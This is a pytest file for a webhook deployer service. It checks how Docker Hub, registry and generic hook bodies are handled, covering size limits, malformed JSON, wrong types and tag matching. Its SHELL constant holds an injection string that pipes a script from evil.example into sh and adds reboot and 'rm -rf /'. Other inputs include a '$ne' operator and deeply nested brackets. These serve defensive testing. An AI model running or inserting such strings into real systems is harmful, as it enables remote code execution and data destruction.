# SPDX-FileCopyrightText: MSRV contributors
# SPDX-License-Identifier: AGPL-3.0-or-later

"""Bodies of hooks: hostile text, length, and the forms of registries."""

import asyncio
import json
import logging
from typing import Any

import pytest

from tests.deployer.running_deployer import (
    REGISTRY,
    SECRET,
    RunningDeployer,
    dockerhub_body,
)

SHELL = "latest; curl evil.example | sh #$(reboot)`id`\n&& rm -rf /"


async def test_shell_text_in_a_payload_is_only_text(
    deployer: RunningDeployer, caplog: pytest.LogCaptureFixture
) -> None:
    """It starts nothing, and logs no second line."""
    caplog.set_level(logging.INFO)
    for data in (
        dockerhub_body(SHELL),
        dockerhub_body(repository={"repo_name": SHELL}),
        dockerhub_body(repository={"repo_name": "wetcoats/msrv" + SHELL}),
    ):
        answer = await deployer.dockerhub(data)
        assert answer.status == 202
        assert (await answer.json())["state"] == "ignored"
    await deployer.wait_until_idle()
    assert deployer.started == []
    assert all("\n" not in each.getMessage() for each in caplog.records)


@pytest.mark.parametrize("kind", ["dockerhub", "generic", "registry"])
async def test_ten_megabytes_are_refused_unread(
    deployer: RunningDeployer, kind: str
) -> None:
    path = {
        "dockerhub": f"/hooks/dockerhub/store/{SECRET}",
        "generic": "/hooks/generic/store",
        "registry": "/hooks/registry/store",
    }[kind]
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", deployer.client.port
    )
    writer.write(
        f"POST {path} HTTP/1.1\r\nHost: x\r\n"
        f"Authorization: Bearer {REGISTRY}\r\n"
        "Content-Length: 10485760\r\n\r\n".encode()
    )
    # Not a byte of the body is sent, and the answer is here.
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 60)
    assert b" 413 " in head
    writer.close()
    await writer.wait_closed()


async def test_ten_megabytes_of_unknown_length_are_refused(
    deployer: RunningDeployer,
) -> None:

    async def endless() -> Any:  # noqa: ANN401
        for _ in range(160):
            yield b" " * 65_536

    answer = await deployer.client.post(
        f"/hooks/dockerhub/store/{SECRET}", data=endless()
    )
    assert answer.status == 413


async def test_body_of_a_forged_hook_is_not_read(
    deployer: RunningDeployer,
) -> None:
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", deployer.client.port
    )
    writer.write(
        b"POST /hooks/dockerhub/store/wrong HTTP/1.1\r\nHost: x\r\n"
        b"Content-Length: 1000\r\n\r\n"
    )
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 60)
    assert b" 404 " in head
    writer.close()
    await writer.wait_closed()


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 200_000,
        b'{"a":' * 40_000,
        b"",
        b"null",
        b"[]",
        b"1e999999",
        b'"text"',
        b"\xff\xfe{}",
        b'{"a": "\xed\xa0\x80"}',
        b"9" * 20_000,
        b"push_data=1",
    ],
    ids=lambda body: repr(body[:12]),
)
async def test_deep_or_invalid_json_is_a_400(
    deployer: RunningDeployer, body: bytes
) -> None:
    answer = await deployer.dockerhub(body)
    assert answer.status == 400
    assert (await deployer.generic(body)).status == 400
    await deployer.wait_until_idle()
    assert deployer.started == []
    assert (await deployer.client.get("/-/health")).status == 200


@pytest.mark.parametrize(
    "data",
    [
        {},
        {"push_data": None, "repository": None},
        {"push_data": [], "repository": 5},
        {"push_data": {"tag": 7}, "repository": {"repo_name": ["x"]}},
        {"push_data": {"tag": "latest"}},
        {"repository": {"repo_name": "wetcoats/msrv"}},
        {
            "push_data": {"tag": {"$ne": ""}},
            "repository": {"repo_name": True},
        },
        {
            "push_data": {"tag": "latest"},
            "repository": {"repo_name": "evil/msrv"},
        },
        {
            "push_data": {"tag": "other"},
            "repository": {"repo_name": "wetcoats/msrv"},
        },
    ],
)
async def test_wrong_types_and_missing_keys_are_ignored(
    deployer: RunningDeployer,
    data: dict[str, Any],
    caplog: pytest.LogCaptureFixture,
) -> None:
    """The hook is accepted, logged, and starts nothing."""
    caplog.set_level(logging.INFO)
    answer = await deployer.dockerhub(data)
    assert answer.status == 202
    assert (await answer.json())["state"] == "ignored"
    await deployer.wait_until_idle()
    assert deployer.started == []
    assert "ignored a hook (dockerhub)" in caplog.text


@pytest.mark.parametrize(
    ("events", "state"),
    [
        ([], "ignored"),
        (None, "ignored"),
        ([1, "x", None, {}], "ignored"),
        ([{"action": "pull", "target": {}}], "ignored"),
        (
            [{"action": "pull", "target": {"repository": "wetcoats/msrv"}}],
            "ignored",
        ),
        (
            [
                {"action": "push", "target": {"digest": "sha256:0"}},
                {
                    "action": "push",
                    "target": {
                        "repository": "wetcoats/msrv",
                        "tag": "latest",
                    },
                },
            ],
            "queued",
        ),
    ],
)
async def test_registry_events_count_only_pushes_of_tags(
    deployer: RunningDeployer, events: object, state: str
) -> None:
    answer = await deployer.registry({"events": events})
    assert answer.status == 202
    assert (await answer.json())["state"] == state


@pytest.mark.parametrize(
    ("data", "state"),
    [
        ({"repository": "wetcoats/msrv", "tag": "latest"}, "queued"),
        ({"repository": "wetcoats/msrv"}, "queued"),
        ({"repository": "docker.io/wetcoats/msrv:latest"}, "queued"),
        (
            {"repository": "wetcoats/msrv:latest", "tag": "latest"},
            "queued",
        ),
        ({"repository": "wetcoats/msrv:other", "tag": "latest"}, "ignored"),
        ({"repository": "wetcoats/msrv:latest", "tag": "other"}, "ignored"),
        ({"repository": "wetcoats/msrv:other"}, "ignored"),
        ({"repository": "wetcoats/msrv", "tag": ""}, "ignored"),
        ({"repository": "wetcoats/msrv", "tag": 1}, "ignored"),
        ({"tag": "latest"}, "ignored"),
        ({}, "ignored"),
    ],
)
async def test_tag_may_be_a_member_or_end_the_repository(
    deployer: RunningDeployer, data: dict[str, Any], state: str
) -> None:
    answer = await deployer.generic(json.dumps(data).encode())
    assert (await answer.json())["state"] == state
